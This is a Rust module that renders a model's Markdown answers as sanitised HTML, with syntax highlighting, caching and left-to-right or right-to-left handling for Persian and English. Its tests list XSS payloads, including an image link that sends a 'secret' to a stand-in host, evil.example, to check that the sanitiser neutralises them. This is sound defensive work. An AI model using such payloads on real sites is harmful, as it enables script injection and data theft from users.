//! Markdown → safe HTML, with highlighted code. The only maker of raw HTML: everything passes the sanitiser last.

mod highlight;
mod kept;

use ammonia::{Builder, UrlRelative};
use highlight::highlight;
use kept::{Kept, Key};
use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};
use sha2::{Digest, Sha256};
use std::{
    collections::HashSet,
    sync::{Arc, LazyLock, Mutex, MutexGuard, PoisonError},
};
static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    // Images of a model's choosing would tell their host who reads what.
    builder
        .rm_tags(["img", "map", "area"])
        .add_tags(["input"])
        .add_tag_attributes("input", ["type", "checked", "disabled"])
        .add_tag_attributes("ol", ["start"])
        .add_tag_attributes("pre", ["data-language"])
        .add_generic_attributes(["dir"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .set_tag_attribute_value("input", "disabled", "")
        .add_tag_attribute_values("input", "type", ["checkbox"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("span" | "code", "class") => {
                let ours =
                    value.split_whitespace().all(|class| class.starts_with("hl-") || class.starts_with("language-"));
                ours.then(|| value.into())
            }
            (_, "class") => None,
            ("input", "type") if value != "checkbox" => None,
            _ => Some(value.into()),
        })
        .add_tag_attributes("span", ["class"])
        .add_tag_attributes("code", ["class"]);
    builder
});

/// Rendered answers that are kept, so that a long conversation is not rendered anew each time somebody looks.
const KEPT_BYTES_MAX: usize = 16 * 1024 * 1024;

static KEPT: LazyLock<Mutex<Kept>> = LazyLock::new(|| Mutex::new(Kept::new(KEPT_BYTES_MAX)));

/// [`render`] for a text that will be looked at again.
pub fn render_kept(text: &str) -> Arc<str> {
    let key: Key = Sha256::digest(text.as_bytes()).into();
    if let Some(html) = kept().get(&key) {
        return html;
    }
    let html: Arc<str> = Arc::from(render(text));
    kept().put(key, html.clone());
    html
}

fn kept() -> MutexGuard<'static, Kept> {
    KEPT.lock().unwrap_or_else(PoisonError::into_inner)
}

/// Renders text as a model writes it. The whole reads in the direction of most of its letters, each block in its own.
pub fn render(text: &str) -> String {
    if text.trim().is_empty() {
        return String::new();
    }
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let events = highlighted(Parser::new_ext(text, options));
    let direction = direction(&events);
    let mut rendered = String::with_capacity(text.len() * 2);
    html::push_html(&mut rendered, events.into_iter());
    let clean = with_directions(&SANITISER.clean(&rendered).to_string());
    format!("<div dir=\"{direction}\">{clean}</div>")
}

/// Lists and tables have no text of their own that `dir="auto"` could go by: they follow the whole.
fn direction(events: &[Event<'_>]) -> &'static str {
    let letters =
        events.iter().filter_map(|event| if let Event::Text(text) = event { Some(text.chars()) } else { None });
    let (mut rtl, mut ltr) = (0_u32, 0_u32);
    for letter in letters.flatten().filter(|letter| letter.is_alphabetic()) {
        if matches!(letter, '\u{590}'..='\u{8ff}' | '\u{fb1d}'..='\u{fefc}') { rtl += 1 } else { ltr += 1 }
    }
    if rtl > ltr { "rtl" } else { "ltr" }
}

/// Replaces code blocks by their highlighted form, and raw HTML by its text.
fn highlighted<'t>(parser: impl Iterator<Item = Event<'t>>) -> Vec<Event<'t>> {
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None;
    for event in parser {
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let language = match kind {
                    CodeBlockKind::Fenced(info) => info.split([' ', ',']).next().unwrap_or("").to_owned(),
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((language, String::new()));
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((language, text)) = code.take() {
                    events.push(Event::Html(CowStr::from(code_block(&language, &text))));
                }
            }
            Event::Text(text) if code.is_some() => {
                if let Some((_, block)) = &mut code {
                    block.push_str(&text);
                }
            }
            Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
            other => events.push(other),
        }
    }
    events
}

fn code_block(language: &str, text: &str) -> String {
    let body = highlight(language, text).unwrap_or_else(|| escape(text));
    format!("<pre data-language=\"{}\" dir=\"ltr\"><code>{body}</code></pre>\n", escape(language))
}

fn escape(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

/// Persian and English alternate within one answer: each block finds its own direction.
fn with_directions(html: &str) -> String {
    const BLOCKS: [&str; 9] = ["p", "li", "h1", "h2", "h3", "h4", "blockquote", "td", "th"];
    let mut out = html.to_owned();
    for block in BLOCKS {
        out = out.replace(&format!("<{block}>"), &format!("<{block} dir=\"auto\">"));
    }
    // A block of code is in a `pre` that reads from the left.
    out.replace("<code>", "<code dir=\"auto\">").replace("dir=\"ltr\"><code dir=\"auto\">", "dir=\"ltr\"><code>")
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn code_is_highlighted_and_stays_left_to_right() {
        let html = render("سلام\n\n```rust\nlet x = 1;\n```\n");
        assert!(html.contains("<p dir=\"auto\">سلام</p>"), "{html}");
        assert!(html.contains("<pre data-language=\"rust\" dir=\"ltr\"><code><span class=\"hl-"), "{html}");
    }

    #[test]
    fn lists_and_tables_follow_the_language_of_the_whole() {
        assert!(render("- یک\n- two").starts_with("<div dir=\"ltr\">"), "as many or more Latin letters");
        assert!(
            render("- سلام\n- two\n\n```rust\nlet long_english_code = 1;\n```").starts_with("<div dir=\"rtl\">"),
            "code does not count"
        );
        assert!(render("این `سلام code` است").contains("<code dir=\"auto\">"));
        assert_eq!(render("  \n"), "");
    }

    #[test]
    fn html_of_a_model_is_text() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "![x](https://evil.example/?q=secret)",
            "<a href=\"data:text/html,x\" onclick=\"y\">z</a>",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "```\"><script>\nx\n```",
            "<svg/onload=alert(1)>",
            "[x](//evil.example)",
        ] {
            let html = render(attack);
            let tags = html.split('<').skip(1).filter_map(|rest| rest.split('>').next());
            for tag in tags {
                let name = tag.trim_start_matches('/').split(' ').next().unwrap_or_default();
                assert!(!["script", "img", "svg"].contains(&name), "{attack} → {html}");
                assert!(
                    !["javascript", "data:", "evil", "onclick"].iter().any(|word| tag.contains(word)),
                    "{attack} → {html}"
                );
            }
        }
    }

    #[test]
    fn links_open_elsewhere_and_tell_nothing() {
        let html = render("[x](https://example.com/a)");
        assert!(html.contains("rel=\"noopener noreferrer nofollow\"") && html.contains("target=\"_blank\""), "{html}");
    }
}
